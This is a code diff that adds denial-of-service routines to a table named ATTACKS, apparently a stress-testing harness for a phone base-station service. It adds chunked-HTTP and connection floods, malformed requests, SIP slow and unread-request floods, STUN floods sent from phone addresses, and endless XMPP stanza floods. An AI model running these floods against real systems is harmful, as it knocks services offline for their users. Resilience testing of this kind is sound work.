@@ -34,6 +34,10 @@ IPV6_FREEBIND = 78
 
 METRICS = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
 MENU = b"GET /info/menu.jsp HTTP/1.1\r\nHost: a\r\n\r\n"
+CHUNKED = (
+    b"POST /checkin HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+    + b"1\r\na\r\n" * 16000
+)
 STREAM = (
     b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' to='gigaset.net' "
     b"version='1.0' xmlns:stream='http://etherx.jabber.org/streams'>"
@@ -224,6 +228,17 @@ def _slowHeads() -> None:
                 peers.remove(peer)
 
 
+def _connects(data: bytes) -> None:
+    """
+    Open connections without a pause, send C{data} on each, and close it.
+    """
+    while True:
+        with suppress(OSError), connection(stranger(0), HTTP) as peer:
+            if data:
+                peer.sendall(data)
+                peer.recv(65536)
+
+
 _CSRF = re.compile(rb'name="csrf" value="([^"]+)"')
 _SEED = re.compile(rb"Set-Cookie: ([^;\r]+)", re.IGNORECASE)
 
@@ -304,6 +319,62 @@ def _flood(rate: float, sources: int) -> Iterator[int]:
 def _invites() -> None:
     for _ in _flood(2000.0, 16):
         pass
+
+
+def _unreadSip() -> None:
+    """
+    Send requests without end on one TCP connection after the other, and read no
+    answer.
+    """
+    text = (
+        f"OPTIONS sip:{DOMAIN} SIP/2.0\r\nv:SIP/2.0/TCP a;branch=z9hG4bK1\r\n"
+        f"f:<sip:1@{DOMAIN}>;tag=1\r\nt:<sip:a>\r\ni:1\r\nCSeq:1 OPTIONS\r\n"
+        "Content-Length:0\r\n\r\n"
+    )
+    peers = []
+    for _ in paced(1.0):
+        with suppress(OSError):
+            peer = connection(stranger(0), SIP)
+            peer.settimeout(0.9)
+            peers.append(peer)
+            peer.sendall(text.encode() * 10000)
+
+
+def _slowSip() -> None:
+    """
+    Keep messages incomplete on 64 connections from each of 64 addresses.
+    """
+    _held(
+        SIP, [stranger(index) for index in range(64)], 64, b"OPTIONS sip:a SIP/2.0\r\n"
+    )
+
+
+def _stun() -> None:
+    """
+    Send 300 STUN requests a second from the address of each phone.
+    """
+    request = struct.pack("!HHI", 1, 0, 0x2112A442) + b"abcdefghijkl"
+    for _, peer, _ in _besidePhones(300.0 * PHONES):
+        with suppress(OSError):
+            peer.send(request)
+
+
+def _stanzas() -> None:
+    """
+    Send stanzas without end before the log-in on 64 XMPP streams, read no answer.
+    """
+
+    def one() -> None:
+        while True:
+            with suppress(OSError), connection(stranger(0), XMPP) as peer:
+                peer.sendall(STREAM)
+                while True:
+                    peer.sendall(
+                        b"<iq type='get' id='1'><ping xmlns='urn:xmpp:ping'/></iq>"
+                    )
+            time.sleep(0.01)
+
+    _together([one] * 64)
 
 
 def _closing() -> None:
@@ -428,6 +499,9 @@ ATTACKS: dict[str, Callable[[], None]] = {
     "http-menu-unread": lambda: _unread(MENU * 1450),
     "http-metrics-8": lambda: _repeated(METRICS),
     "http-menu-8": lambda: _repeated(MENU),
+    "http-chunks": lambda: _repeated(CHUNKED, 4),
+    "http-connects": lambda: _connects(b""),
+    "http-bad": lambda: _connects(b"\0\r\n\r\n"),
     "http-silent": _silentHttp,
     "http-slow-heads": _slowHeads,
     "login-codes": _codes,
@@ -440,7 +514,11 @@ ATTACKS: dict[str, Callable[[], None]] = {
     "sip-junk-flow": _junkFlow,
     "sip-guesses": _guesses,
     "sip-silent": _silentSip,
+    "sip-slow": _slowSip,
+    "sip-unread": _unreadSip,
+    "stun": _stun,
     "xmpp-silent": _silentXmpp,
+    "xmpp-stanzas": _stanzas,
 }
 
 
